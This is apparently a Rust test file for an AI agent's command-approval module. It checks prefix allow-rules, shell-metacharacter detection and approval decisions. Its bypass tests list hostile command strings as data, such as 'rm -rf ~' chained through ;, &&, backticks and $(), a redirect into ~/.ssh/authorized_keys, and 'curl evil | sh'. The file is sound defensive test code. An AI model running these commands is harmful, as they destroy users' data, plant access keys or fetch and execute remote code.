use meetclaw::approval::{
    add_allow_rule, command_matches_prefix, has_shell_metacharacters, is_allowed, read_answer,
    wait_step, Decision, WaitEvent, WaitOutcome,
};

fn rules(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[test]
fn prefix_rule_allows_simple_command() {
    let r = rules(&["run_command:gh"]);
    assert!(is_allowed(&r, "run_command", Some("gh run list")));
}

#[test]
fn prefix_rule_rejects_unrelated_or_lookalike_program() {
    let r = rules(&["run_command:gh"]);
    assert!(!is_allowed(&r, "run_command", Some("ghx secrets")));
    assert!(!is_allowed(&r, "run_command", Some("rm -rf /")));
}

#[test]
fn prefix_rule_never_auto_runs_chained_or_redirected_commands() {
    let r = rules(&["run_command:gh"]);
    for bypass in [
        "gh && rm -rf ~",
        "gh; rm -rf ~",
        "gh | sh",
        "gh `rm -rf ~`",
        "gh $(rm -rf ~)",
        "gh > ~/.ssh/authorized_keys",
        "gh\nrm -rf ~",
    ] {
        assert!(
            !is_allowed(&r, "run_command", Some(bypass)),
            "should not auto-allow: {bypass}"
        );
    }
}

#[test]
fn whole_tool_rule_for_run_command_still_blocks_metacharacters() {
    let r = rules(&["run_command"]);
    assert!(is_allowed(&r, "run_command", Some("ls -la")));
    assert!(!is_allowed(&r, "run_command", Some("ls && curl evil | sh")));
}

#[test]
fn web_search_is_allowed_by_whole_tool_rule() {
    let r = rules(&["web_search"]);
    assert!(is_allowed(&r, "web_search", None));
    assert!(!is_allowed(&r, "run_command", Some("ls")));
}

#[test]
fn every_metacharacter_is_found() {
    for c in ";&|`$()<>\n\"'*?{}[]\\".chars() {
        assert!(has_shell_metacharacters(&format!("ls {c}")), "{c:?}");
    }
    assert!(!has_shell_metacharacters("ls -la ~/a_b.txt --x=1,2:3 #%^+@!"));
}

#[test]
fn prefixes_match_whole_words() {
    assert!(command_matches_prefix("npm test --watch", "npm test"));
    assert!(command_matches_prefix("npm  test", " npm test "));
    assert!(!command_matches_prefix("npm", "npm test"));
    assert!(!command_matches_prefix("gh", ""));
    assert!(command_matches_prefix("gh", " "));
}

#[test]
fn rules_need_a_command_for_a_prefix() {
    assert!(!is_allowed(&rules(&["run_command:gh"]), "run_command", None));
    assert!(is_allowed(&rules(&["run_command: gh "]), "run_command", Some("gh pr")));
    assert!(!is_allowed(&rules(&["run_command:"]), "run_command", Some("gh pr")));
    assert!(!is_allowed(&rules(&["run_command:gh"]), "web_search", Some("gh pr")));
    assert!(!is_allowed(&rules(&[]), "web_search", None));
}

#[test]
fn answers_are_read_by_their_words() {
    let a = read_answer("allow_once", Some("web_search".to_string())).unwrap();
    assert_eq!(a.decision, Decision::AllowOnce);
    assert_eq!(a.rule, None);
    let a = read_answer("allow_always", Some("run_command:gh".to_string())).unwrap();
    assert_eq!(a.decision, Decision::AllowAlways);
    assert_eq!(a.rule, Some("run_command:gh".to_string()));
    let a = read_answer("allow_always", Some("  ".to_string())).unwrap();
    assert_eq!(a.rule, None);
    let a = read_answer("deny", None).unwrap();
    assert_eq!(a.decision, Decision::Deny);
    assert_eq!(read_answer("maybe", None).err(), Some("unknown decision: maybe".to_string()));
}

#[test]
fn rules_combine() {
    let (a, b) = (rules(&["web_search"]), rules(&["run_command:gh"]));
    let both = rules(&["web_search", "run_command:gh"]);
    for (tool, command) in [
        ("web_search", None),
        ("run_command", Some("gh pr")),
        ("run_command", Some("gh; ls")),
        ("run_command", Some("ls")),
    ] {
        let either = is_allowed(&a, tool, command) || is_allowed(&b, tool, command);
        assert_eq!(is_allowed(&both, tool, command), either);
    }
}

#[test]
fn rules_are_stored_once() {
    let mut r = rules(&["web_search"]);
    add_allow_rule(&mut r, "run_command:gh".to_string());
    add_allow_rule(&mut r, "web_search".to_string());
    add_allow_rule(&mut r, "run_command:gh".to_string());
    assert_eq!(r, rules(&["web_search", "run_command:gh"]));
    assert!(is_allowed(&r, "web_search", None));
    assert!(is_allowed(&r, "run_command", Some("gh pr list")));
}

fn decided(id: &str, decision: Decision) -> WaitEvent {
    WaitEvent::Decided { call_id: id.to_string(), decision }
}

#[test]
fn only_the_own_answer_decides() {
    assert_eq!(wait_step(&decided("1", Decision::AllowOnce), "1"), WaitOutcome::Run);
    assert_eq!(wait_step(&decided("1", Decision::AllowAlways), "1"), WaitOutcome::Run);
    assert_eq!(wait_step(&decided("1", Decision::Deny), "1"), WaitOutcome::Refuse);
    assert_eq!(wait_step(&decided("0", Decision::AllowOnce), "1"), WaitOutcome::Wait);
    assert_eq!(wait_step(&decided("0", Decision::Deny), "1"), WaitOutcome::Wait);
    assert_eq!(wait_step(&WaitEvent::Timeout, "1"), WaitOutcome::Wait);
    assert_eq!(wait_step(&WaitEvent::Stopped, "1"), WaitOutcome::Refuse);
    assert_eq!(wait_step(&WaitEvent::Disconnected, "1"), WaitOutcome::Refuse);
}
